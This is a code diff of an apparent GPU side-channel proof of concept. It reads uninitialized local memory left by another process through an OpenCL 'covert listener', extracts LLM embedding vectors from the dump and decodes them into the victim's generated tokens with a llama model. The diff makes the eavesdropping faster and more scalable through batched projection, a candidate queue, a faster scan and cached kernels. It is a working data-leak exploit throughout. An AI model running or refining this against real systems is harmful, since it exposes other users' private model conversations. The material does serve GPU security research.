@@ -23,13 +23,18 @@
 #include <fstream>
 #include <thread>
 #include <cmath>
-#include <mutex>
-
-std::mutex m;
+#include <atomic>
+#include <chrono>
 
 // For command line
 #include "cxxopts.hpp"
 
+// Linear-time search for the zero-delimited vectors
+#include <scan.h>
+
+// Hands candidate vectors from the listeners to the projection
+#include <queue.h>
+
 #define MAX_SHMEM_SIZE (65536)
 
 // Some common sizes across main and the kernel
@@ -37,6 +42,14 @@ std::mutex m;
 #include <CL/cl2.hpp>
 using namespace cl;
 
+// Device enumeration and the per-process context and program cache
+#include <cldevices.h>
+
+// The kernel source, embedded by the Makefile
+const std::string kernelSource =
+#include "covertCLListener.clh"
+  ;
+
 
 // for sorting the histogram
 bool cmp(std::pair<int, int> a,
@@ -49,57 +62,134 @@ static llama_context ** g_ctx;
 llama_model * model;
 int prev_max = -1;
 
-void do_mult(float *dst, float *i) {
-  //printf("in do_mult\n");
+#define N_EMBD (4096)
+#define N_VOCAB (32001)
+
+// A vector found by one of the listener threads
+struct Candidate {
+  float values[N_EMBD];
+};
+
+// The listener threads only push, the projection thread only pops. A
+// full queue means the projection is behind and the candidate is dropped
+// rather than stalling the GPU sampling.
+leftoverlocals::BoundedQueue<Candidate> *candidates;
+std::atomic<long> dropped(0);
+
+// The projection of candidates onto the vocabulary, one candidate per
+// column of a single mat-mul. The graph for each batch size is built and
+// planned once in a no_alloc context; its input tensor is pointed at the
+// batch and its logits and work buffer at storage shared by all sizes, so
+// a call runs the mat-mul and nothing else. The mat-mul threads are a ggml thread
+// pool kept for the life of the listener.
+struct Projection {
+  struct Graph {
+    struct ggml_tensor * y;
+    struct ggml_tensor * logits;
+    ggml_cgraph gf;
+    ggml_cplan plan;
+  };
+
+  int n_threads;
+  struct ggml_threadpool * pool;
+  struct ggml_context * ctx;
+  // Indexed by batch size, built on first use
+  std::vector<Graph *> graphs;
+  std::vector<float> logits;
+  // Large enough for every graph built so far
+  std::vector<uint8_t> work;
+};
+Projection projection;
+
+// The work buffer holds the batch converted to the model's dot product
+// type. BLAS builds would also convert the whole output matrix once a
+// batch has 32 columns, which is why batches stay below that.
+void init_projection(int maxBatch, int n_threads) {
+  projection.n_threads = n_threads;
+  projection.pool = n_threads > 1 ? ggml_threadpool_new(n_threads) : nullptr;
   struct ggml_init_params params = {
-    .mem_size   = 144944 + 33312 + 289888,
+    .mem_size   = (2*maxBatch + 2)*ggml_tensor_overhead(),
     .mem_buffer = NULL,
+    .no_alloc   = true,
     };
+  projection.ctx = ggml_init(params);
+  projection.graphs.assign(maxBatch + 1, nullptr);
+  projection.logits.resize((size_t) N_VOCAB*maxBatch);
+}
 
-  struct ggml_context * ctx0 = ggml_init(params);
-  struct ggml_tensor * y = ggml_new_tensor_1d(ctx0, GGML_TYPE_F32, 4096);
-  memcpy(y->data, i, 4096*sizeof(float));
-  ggml_set_param(ctx0, y);
-  struct ggml_tensor * cur;
-
-  ggml_cgraph gf = {};
-  cur = ggml_mul_mat(ctx0, get_output(model), y);
-  ggml_set_name(cur, "result_output");
-  ggml_build_forward_expand(&gf, cur);
-  gf.n_threads = 1;
-  ggml_graph_compute(ctx0, &gf);
-  memcpy(dst, (float *) ggml_get_data(cur), sizeof(float)*32001);
-
-  float max = 0.0f;
-  int arg_max = 0;
-  for (int i = 0; i < 32001; i++) {
-    if (dst[i] > max) {
-      max = dst[i];
-      arg_max = i;
+Projection::Graph & projection_graph(int n) {
+  Projection::Graph *&g = projection.graphs[n];
+  if (!g) {
+    g = new Projection::Graph();
+    g->y = ggml_new_tensor_2d(projection.ctx, GGML_TYPE_F32, N_EMBD, n);
+    g->logits = ggml_mul_mat(projection.ctx, get_output(model), g->y);
+    g->logits->data = projection.logits.data();
+    ggml_set_name(g->logits, "result_output");
+    ggml_build_forward_expand(&g->gf, g->logits);
+    g->gf.threadpool = projection.pool;
+    g->plan = ggml_graph_plan(&g->gf, projection.n_threads);
+    if (g->plan.work_size > projection.work.size()) {
+      projection.work.resize(g->plan.work_size);
     }
   }
-  if (arg_max != prev_max && arg_max < 32001) {
-    printf("%s", llama_token_to_str(*g_ctx, arg_max));
-    prev_max = arg_max;
-  }  
+  // The buffer may have moved since the graph was planned
+  g->plan.work_data = projection.work.data();
+  return *g;
+}
 
-  ggml_free(ctx0);
+// Projects a batch of candidates and prints the most likely token of each.
+void do_mult(const std::vector<Candidate> &batch) {
+  const int n = batch.size();
+  Projection::Graph &g = projection_graph(n);
+
+  // Candidates are laid out exactly like the columns of the input
+  g.y->data = (void *) batch.data();
+  ggml_graph_compute_plan(&g.gf, &g.plan);
+
+  for (int j = 0; j < n; j++) {
+    const float *dst = projection.logits.data() + (size_t) j*N_VOCAB;
+    int arg_max = leftoverlocals::scan::argmax(dst, N_VOCAB);
+    // As before, a row without a positive logit maps to token 0
+    if (arg_max >= N_VOCAB || !(dst[arg_max] > 0.0f)) {
+      arg_max = 0;
+    }
+    if (arg_max != prev_max) {
+      printf("%s", llama_token_to_str(*g_ctx, arg_max));
+      prev_max = arg_max;
+    }
+  }
+  fflush(stdout);
 }
 
-void listener_thread(Device d, int gridSize, int workgroupSize, int tid) {
+// Drains the queue forever, projecting up to batchSize candidates at a
+// time. Batches grow on their own when the listeners find vectors faster
+// than they can be projected one by one.
+void projection_thread(int batchSize) {
+  std::vector<Candidate> batch;
+  Candidate c;
+  while (1) {
+    batch.clear();
+    while ((int) batch.size() < batchSize && candidates->tryPop(c)) {
+      batch.push_back(c);
+    }
+    if (batch.empty()) {
+      std::this_thread::sleep_for(std::chrono::microseconds(100));
+      continue;
+    }
+    do_mult(batch);
+  }
+}
 
-  Context context({d});
-  Program::Sources sources;
-  
-  std::ifstream t("./examples/clCovertListener/covertCLListener.cl");
-  std::stringstream buffer;
-  buffer << t.rdbuf();
-  
-  sources.push_back({buffer.str().c_str(),buffer.str().length()});
-  
-  Program program(context,sources);
-  if(program.build({d})!=CL_SUCCESS){
-    std::cout<<" Error building: "<<program.getBuildInfo<CL_PROGRAM_BUILD_LOG>(d)<<"\n";
+void listener_thread(Device d, int gridSize, int workgroupSize, int tid, bool scanStats) {
+
+  // The listener threads share the device's context and program; the
+  // first one to get here builds it, or loads it from the kernel cache
+  leftoverlocals::DeviceCache &cache = leftoverlocals::DeviceCache::shared();
+  Context context = cache.context(d);
+  Program program;
+  std::string buildLog;
+  if(cache.program(d, kernelSource, "", program, buildLog)!=CL_SUCCESS){
+    std::cout<<" Error building: "<<buildLog<<"\n";
     exit(1);
   }
   
@@ -116,6 +206,7 @@ void listener_thread(Device d, int gridSize, int workgroupSize, int tid) {
   float * B = (float*) malloc(size);
   float * C = (float*) malloc(size);
   
+  // Each thread has its own queue so that the dumps don't serialize
   CommandQueue queue(context,d);
   
   string fname = "readValues";
@@ -126,15 +217,10 @@ void listener_thread(Device d, int gridSize, int workgroupSize, int tid) {
   covertListener.setArg(1,buffer_B);
   covertListener.setArg(2,buffer_C);
 
-  float* dst = (float *) malloc(sizeof(float)*32001);
-  float* input = (float *) malloc(sizeof(float)*4096);
-  for (int i = 0; i < 32001; i++) {
-    dst[i] = -1;
+  Candidate candidate;
 
-  }
-  for (int i = 0; i < 4096; i++) {
-    input[i] = 0.0f;
-  }
+  leftoverlocals::scan::ZeroRunScanner scanner(N_EMBD, 4, 2);
+  std::vector<size_t> hits;
 
   bool found = false;
   while (1) {
@@ -158,56 +244,22 @@ void listener_thread(Device d, int gridSize, int workgroupSize, int tid) {
     
     queue.enqueueReadBuffer(buffer_C, CL_TRUE, 0, size, C);
     
-    found = false;
-    for(int i=2;i<size_int;i++) {
-
-      // Initial loop when the trojan was in llama.cpp
-      /*if (C[i] == 0.125f && size_int - (4096*3) > i) {
-	  if (C[i+1] == 0.125f) {
-	    for (int k = 0; k < 4096*3; k++) {
-	      //input[k] = C[i+k];
-	      std::cout << C[i+k] << std::endl;
-	    }
-	    found = true;
-	    std::cout << "END" << std::endl;
-	    //break;
-	  }
-	  }*/
-
-      // Now we just look for 4096 elements seperated by a bunch of 0's.
-
-      // First check if the previous two elements were 0, and our
-      // current index is not 0, and we have enough space (by a factor of 2)
-      if (C[i-2] == 0.0f && C[i-1] == 0.0f && C[i] != 0.0f && size_int - (4096*2) > i) {
-	int k;
-	int zeros = 0;
-
-	for (k = 0; k < 4096; k++) {
-	  input[k] = C[i+k];
-	  if (C[i+k] == 0.0f) {
-	    zeros++;
-	  }
-	  if (zeros > 5) {
-	    break;
-	  }
-	}
-	if (zeros < 5 && C[i+k] == 0.0f && C[i+k+1] == 0.0f) {
-	  found = true;
-	  //debug
-	  /*std::cout << "BEGIN" << std::endl;
-	  for (int k = 0; k < 4096; k++) {
-	    std::cout << C[i+k] << std::endl;
-	    }*/
-	  break;
-	}		
-      }	      
-    }
+    // Now we just look for 4096 elements seperated by a bunch of 0's:
+    // the previous two elements are 0, the first one is not, there are
+    // fewer than 5 zeros in the vector and it is followed by two 0's.
+    hits.clear();
+    scanner.scan((const uint32_t *) C, size_int, hits, 1);
+    found = !hits.empty();
     if (found) {
-      //return;
-      m.lock();
-      do_mult(dst, input);
-      m.unlock();
-    }    
+      memcpy(candidate.values, C + hits[0], N_EMBD*sizeof(float));
+      if (!candidates->tryPush(candidate)) {
+	dropped++;
+      }
+    }
+
+    if (scanStats && iters % 1000 == 0) {
+      printf("\n[thread %d] scanned %.1f MB at %.2f GB/s, %ld candidates dropped\n", tid, scanner.stats.bytes / 1e6, scanner.stats.gbps(), dropped.load());
+    }
   }  
 }
 
@@ -225,6 +277,10 @@ int main(int argc, char* argv[]) {
     ("d,device", "Device id (int)", cxxopts::value<int>()->default_value("0"))
     ("t,threads", "How many threads to run with (default 1)", cxxopts::value<int>()->default_value("1"))
     ("m,model", "model file", cxxopts::value<string>()->default_value("models/wizardLM-7B.ggmlv3.q5_0.bin"))
+    ("scan-stats", "Print the throughput of the vector scan every 1000 iterations")
+    ("batch", "Most candidate vectors projected in one mat-mul (at most 31)", cxxopts::value<int>()->default_value("16"))
+    ("mult-threads", "Threads used by the projection mat-mul (default: one per core)", cxxopts::value<int>()->default_value("0"))
+    ("queue", "Candidate vectors waiting for the projection before new ones are dropped", cxxopts::value<int>()->default_value("64"))
     ("h,help", "Print usage");
 
 
@@ -235,40 +291,13 @@ int main(int argc, char* argv[]) {
       exit(0);
   }
 
-  vector<Platform> platforms;
-  Platform::get(&platforms);
-
-  std::vector<cl::Device> all_devices;
-  int id = 0;
-
-  for (auto p: platforms) {
-    std::vector<Device> local_devices;
-    p.getDevices(CL_DEVICE_TYPE_ALL, &local_devices);
-    for (auto d: local_devices) {
-      all_devices.push_back(d);
-      id++;
-    }
-  }     
-
-  id = 0;
   if (result.count("list")) {
-    for (auto p: platforms) {
-      std::cout << "platform: " << p.getInfo<CL_PLATFORM_NAME>() << std::endl;
-      std::vector<Device> local_devices;
-      p.getDevices(CL_DEVICE_TYPE_ALL, &local_devices);
-      for (auto d: local_devices) {
-	std::cout << "  device " << id << ": " << d.getInfo<CL_DEVICE_NAME>() << std::endl;
-	std::cout << "   local memory size: " << d.getInfo<CL_DEVICE_LOCAL_MEM_SIZE>() << " type: " << d.getInfo<CL_DEVICE_LOCAL_MEM_TYPE>() << std::endl;
-	all_devices.push_back(d);
-	id++;
-      }
-      std::cout << std::endl;
-      
-    }
-    
+    leftoverlocals::listDevices();
     exit(0);
   }
 
+  std::vector<cl::Device> all_devices = leftoverlocals::allDevices();
+
   int num_threads = result["threads"].as<int>();
   std::thread threads[num_threads];
 
@@ -299,12 +328,23 @@ int main(int argc, char* argv[]) {
     return 1;
   }
 
+  int multThreads = result["mult-threads"].as<int>();
+  if (multThreads <= 0) {
+    multThreads = std::max(1u, std::thread::hardware_concurrency());
+  }
+  candidates = new leftoverlocals::BoundedQueue<Candidate>(std::max(1, result["queue"].as<int>()));
+  // See init_projection for the cap
+  int batchSize = std::min(31, std::max(1, result["batch"].as<int>()));
+  init_projection(batchSize, multThreads);
+  std::thread projector(projection_thread, batchSize);
+
   for (int i = 0; i < num_threads; i++) {
     
-    threads[i] = std::thread(listener_thread, d, gridSize, workgroupSize, i);
+    threads[i] = std::thread(listener_thread, d, gridSize, workgroupSize, i, (bool) result.count("scan-stats"));
   }
 
   for (int i = 0; i < num_threads; i++) {
     threads[i].join();
   }  
+  projector.join();
 }